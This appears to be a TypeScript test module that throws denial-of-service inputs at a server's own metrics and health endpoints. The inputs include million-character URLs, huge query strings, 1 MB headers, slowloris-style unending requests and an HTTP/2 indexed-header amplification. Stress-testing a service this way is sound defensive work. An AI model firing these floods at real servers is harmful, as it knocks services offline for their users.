/** URLs and headers that are costly to read, compare or repeat, from callers without credentials. */
import type { Attack, AttackContext } from '../attack.ts';
import { endHeaders, endStream, frame, frameType, headerBlock, preface, requestLine } from '../../fakes/rawhttp2.ts';
import { exchange, openStranger, request, statusOf } from '../stranger.ts';
import { setTimeout as sleep } from 'node:timers/promises';

const target = 'server/';
const million = 1_000_000;
/** Some below the 1 MiB that a head may have. */
const longHeader = 1_000_000;
const nodes = '/apis/metrics.k8s.io/v1beta1/nodes';

/** @param at how many connections ask at a time. */
function asks(name: string, text: () => string, at = 3): Attack {
  return {
    name: `a stranger asks for ${name}`,
    target,
    async run(context) {
      const bytes = Buffer.from(text(), 'latin1');
      const answers = await Promise.all(Array.from({ length: at }, () => exchange(context, bytes)));
      return `answered by ${[...new Set(answers.map(statusOf))].join(', ')}, ${Math.max(...answers.map((each) => each.length))} bytes`;
    },
  };
}

const url = (name: string, path: () => string, at?: number) => asks(name, () => request(path()), at);
const header = (name: string, line: () => string) => asks(name, () => request(nodes, [line()]));

async function unendingHeads(context: AttackContext): Promise<void> {
  const head = Buffer.from(`GET / HTTP/1.1\r\nHost: x\r\n${`X-A: ${'a'.repeat(1_000)}\r\n`.repeat(975)}`, 'latin1');
  const sockets = await Promise.all(Array.from({ length: 40 }, () => openStranger(context)));
  for (const socket of sockets) socket.resume().write(head);
  await sleep(2_000);
  for (const socket of sockets) socket.destroy();
}

/** Each stream's block refers 4,900 times to one header that the first one has put into the table. */
async function indexedHeaders(context: AttackContext): Promise<void> {
  const socket = await openStranger(context, { ALPNProtocols: ['h2'] });
  socket.resume();
  const literal = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), Buffer.from([1]), Buffer.from('y')]);
  const line = headerBlock(requestLine('/'));
  const indexed = Buffer.alloc(4_900, 0xbe);
  const frames = [Buffer.from(preface), frame(frameType.settings, 0, 0)];
  for (let stream = 0; stream < 100; stream += 1) {
    const block = Buffer.concat([line, ...(stream === 0 ? [literal] : []), indexed]);
    frames.push(frame(frameType.headers, endHeaders | endStream, 2 * stream + 1, block));
  }
  socket.write(Buffer.concat(frames));
  await sleep(2_000);
  socket.destroy();
}

export const attacks: readonly Attack[] = [
  url('a path of a million <', () => `/${'<'.repeat(million)}`),
  url('a path of a million percent signs', () => `/${'%'.repeat(million)}`),
  url('a path of a million escaped slashes', () => `/${'%2f'.repeat(million / 3)}`),
  url('60,000 <, which is not too long for a URL', () => `${nodes}/${'<'.repeat(60_000)}`, 20),
  url('health with 90,000 exclude', () => `/healthz?${'exclude=a&'.repeat(90_000)}`),
  url('health with 6,500 exclude, on 15 connections', () => `/healthz?${'exclude=a&'.repeat(6_500)}`, 15),
  url('health with 32,000 parameters, on 15 connections', () => `/healthz?${'a&'.repeat(32_000)}`, 15),
  url('health with 6,000 encoded parameters, on 15 connections', () => `/healthz?${'%61=%zz&'.repeat(6_000)}`, 15),
  header('nodes with an Accept of 1 MB', () => `Accept: ${'a/b;q=0.1,'.repeat(longHeader / 10)}`),
  header('nodes with an Accept of parameters', () => `Accept: a/b${';a=b'.repeat(longHeader / 4)}`),
  header('nodes with an Accept-Encoding of 1 MB', () => `Accept-Encoding: ${'a;q=0,'.repeat(longHeader / 6)}`),
  header('nodes with a token of 1 MB of spaces', () => `Authorization: Bearer ${' '.repeat(longHeader)}x`),
  header('nodes with a token of 1 MB of dots', () => `Authorization: Bearer ${'.'.repeat(longHeader)}`),
  header('nodes with 1 MB of groups', () => 'X-Remote-Group: a\r\n'.repeat(longHeader / 20).slice(0, -2)),
  { name: 'a stranger sends 40 heads of 975 KB without an end', target, run: unendingHeads },
  {
    name: 'a stranger sends 100 streams of 4,900 indexed headers',
    target,
    run: indexedHeaders,
  },
];
